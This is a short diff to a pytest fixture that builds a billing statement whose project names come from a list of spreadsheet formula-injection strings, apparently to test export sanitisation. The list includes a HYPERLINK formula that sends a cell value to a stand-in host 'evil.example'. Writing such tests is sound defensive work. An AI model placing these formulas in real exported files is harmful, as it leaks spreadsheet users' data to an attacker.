@@ -20,8 +20,7 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@S
 
 @pytest.fixture
 def hostile_statement(organization):
-    model = EmbeddingModel.objects.create(name="@model", local_path="/none", dimensions=8, max_input_tokens=256,
-                                          price_per_million_tokens=Decimal("0.02"))
+    model = EmbeddingModel.objects.create(name="@model", local_path="/none", dimensions=8, max_input_tokens=256)
     statement = Statement.objects.create(organization=organization, period_start=date(2026, 10, 1))
     for i, name in enumerate(HOSTILE):
         project = project_get_or_create(organization=organization, name=name)
